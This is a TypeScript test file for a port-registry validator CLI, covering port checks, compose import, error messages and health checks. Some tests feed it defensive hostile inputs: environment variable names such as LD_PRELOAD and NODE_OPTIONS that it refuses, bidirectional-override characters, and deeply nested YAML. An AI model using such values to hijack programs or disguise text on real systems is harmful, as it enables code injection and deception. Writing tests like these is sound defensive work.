    const f = r.findings.find(x => x.rule === 'port-source')!;
    expect(f.where).toMatchObject({ service: 'worker', portName: 'metrics', path: 'services.worker.ports.metrics.auto' });
    expect(f.message).toContain('auto: false');
    spec.services!.worker.ports.metrics = { auto: false, offset: 20 };
    expect(checkRegistry(spec).ok).toBe(true);
  });

  test.each(['PATH', 'LD_PRELOAD', 'PORT', 'PORT_HTTP', 'HOME', 'IFS', 'NODE_OPTIONS', 'PYTHONPATH'])('env: %s is refused (the .env would set it for every program)', name => {
    const spec = cleanSpec();
    spec.services!.api.ports.http.env = name;
    spec.services!.api.connectsTo = [{ to: 'db', env: name === 'PATH' ? 'LD_LIBRARY_PATH' : undefined }, { to: 'worker' }];
    const paths = checkRegistry(spec).findings.filter(x => x.rule === 'invalid-value').map(x => x.where.path);
    expect(paths).toContain('services.api.ports.http.env');
    if (name === 'PATH') expect(paths).toContain('services.api.connectsTo[0].env');
  });

  test('environment: naming the only environment the client runs in is no cross-environment warning', () => {
    const spec = cleanSpec();
    spec.services!.api.environments = ['production'];
    spec.services!.api.connectsTo = [{ to: 'db', environment: 'production' }, { to: 'worker' }];
    expect(checkRegistry(spec).findings.filter(x => x.rule === 'cross-environment')).toEqual([]);
    // From a client in development too, it does cross.
    delete spec.services!.api.environments;
    expect(checkRegistry(spec).findings.filter(x => x.rule === 'cross-environment')).toHaveLength(1);
  });

  test('import leaves out published port 0 and ports above 65535, each with a note', () => {
    const r = registryFromCompose('services:\n  api:\n    ports:\n      - "0:80"\n      - "65536:80"\n      - "8080:70000"\n      - "8081:81"\n', 'x');
    expect(Object.values(r.spec.services!.api.ports).map(p => p.port)).toEqual([8081]);
    expect(r.notes).toEqual(expect.arrayContaining([
      expect.stringMatching(/"0:80" publishes container port 80 on a host port docker picks at each start \(0\); left out/),
      expect.stringMatching(/"65536:80" names 65536, which is not a port \(1-65535\); left out/),
      expect.stringMatching(/"8080:70000" names 70000, which is not a port/),
    ]));
  });

  test("a schema error's header and findings name the registry by its name:, not by the file's stem", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-name-'));
    fs.writeFileSync(path.join(dir, 'ports.yaml'), 'name: shop\nenvironments:\n  dev: { range: [8000, 8099] }\nservices:\n  api:\n    ports: 5\n');
    const r = spawnSync(process.execPath, [path.join(ROOT, 'bin', 'cdk8s-ports.js'), 'check'], { cwd: dir, encoding: 'utf8' });
    expect(r.stdout.split('\n')[0]).toBe('shop (ports.yaml)');
    // A value of the wrong type is pointed at where the value stands (`ports: 5`: the 5).
    expect(r.stdout).toContain('error [schema] shop / api (ports.yaml:6:12)');
  });

  test.each([['flow lists', '['.repeat(20_000) + ']'.repeat(20_000)], ['flow maps', '{a: '.repeat(5_000) + '1' + '}'.repeat(5_000)]])(
    'deeply nested %s are said to be nested too deeply, not "Maximum call stack size exceeded"', (_what, value) => {
      const [f] = parseRegistryText(`name: x\nservices: ${value}\n`, 'ports.yaml').findings;
      expect(f.message).toBe('ports.yaml is nested too deeply to be read (a registry is a few levels deep)');
    });

  test('scan notes every file it skips for being over 1 MB', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-scan-'));
    fs.writeFileSync(path.join(dir, 'ports.yaml'), 'name: x\nenvironments:\n  dev: { range: [8000, 8099] }\nservices:\n  api:\n    public: true\n    ports:\n      http: { offset: 1 }\n');
    fs.mkdirSync(path.join(dir, 'src'));
    fs.writeFileSync(path.join(dir, 'src', 'big.json'), `{"port": 8001, "pad": "${'x'.repeat(1_100_000)}"}`);
    fs.writeFileSync(path.join(dir, 'src', 'small.ts'), 'const url = "http://localhost:8001";\n');
    const run = (...args: string[]) => spawnSync(process.execPath, [path.join(ROOT, 'bin', 'cdk8s-ports.js'), 'scan', 'src', ...args], { cwd: dir, encoding: 'utf8' });
    const text = run();
    expect(text.stdout).toContain('note: src/big.json is larger than 1 MB (1.0 MB), not scanned');
    expect(text.stdout).toContain('src/small.ts');
    expect(JSON.parse(run('--json').stdout).skipped).toEqual([{ file: 'src/big.json', reason: 'larger than 1 MB (1.0 MB), not scanned' }]);
  });
});

describe('more addresses and URL text', () => {
  test('an IPv4-mapped IPv6 block is refused with the IPv4 block to write', () => {
    const spec = cleanSpec();
    spec.externals!.db.cidrs = ['::ffff:10.0.0.0/104'];
    const f = checkRegistry(spec).findings.find(x => x.rule === 'invalid-cidr');
    expect(f?.message).toContain('write the IPv4 block (10.0.0.0/8)');
  });

  test.each(['010.0.0.1', '10.1', '1.2.3.4.5'])('a host %s that looks like an address but is none is refused', host => {
    const spec = cleanSpec();
    spec.externals!.db.host = host;
    expect(checkRegistry(spec).findings.find(x => x.rule === 'invalid-value')?.where.path).toBe('externals.db.host');
  });

  test.each([['path', '/db\u202e'], ['suffix', '?x=\u0085'], ['suffix', '?a=\u2066b']])('a URL %s with an invisible or line-breaking character is refused', (field, value) => {
    const spec = cleanSpec();
    spec.services!.api.connectsTo = [{ to: 'db', url: { [field]: value } }, { to: 'worker' }];
    expect(checkRegistry(spec).findings.find(x => x.rule === 'invalid-value')?.where.path).toBe(`services.api.connectsTo[0].url.${field}`);
  });
});

test("check's header and import's notes show bidirectional and C1 controls as escapes", () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-term2-'));
  fs.writeFileSync(path.join(dir, 'ports.yaml'), 'name: "shop\\u202e\\u009b"\nservices:\n  api:\n    ports: 5\n');
  const cli = (...args: string[]) => spawnSync(process.execPath, [path.join(ROOT, 'bin', 'cdk8s-ports.js'), ...args], { cwd: dir, encoding: 'utf8' });
  const check = cli('check');
  expect(check.stdout.split('\n')[0]).toBe('shop\\u{202e}\\u{9b} (ports.yaml)');
  fs.writeFileSync(path.join(dir, 'docker-compose.yml'), 'services:\n  api:\n    ports: ["8080:80", "x\u202e:80"]\n');
  const imported = cli('import', 'docker-compose.yml', '-o', 'imported.yaml');
  expect(imported.stdout).toContain('\\u{202e}');
  expect(imported.stdout + check.stdout).not.toMatch(/[\u0080-\u009f\u202a-\u202e\u2066-\u2069]/);
});

test('a health check path without a port probes the only port; with several ports it is unknown-port', () => {
  const spec = cleanSpec();
  spec.services!.api.healthCheck = { path: '/healthz' };
  const r = checkRegistry(spec);
  expect(r.ok).toBe(true);
  expect(workloadSpec(r, 'api', 'production')!.readiness).toEqual({ port: 8110, path: '/healthz' });
  spec.services!.api.ports.admin = { offset: 11 };
  const f = checkRegistry(spec).findings.filter(x => x.rule === 'unknown-port');
  expect(f).toEqual([expect.objectContaining({ where: expect.objectContaining({ service: 'api', path: 'services.api.healthCheck' }) })]);
  expect(f[0].fix).toBe('name the port it answers on: healthCheck: { path: /healthz, port: http }');
});
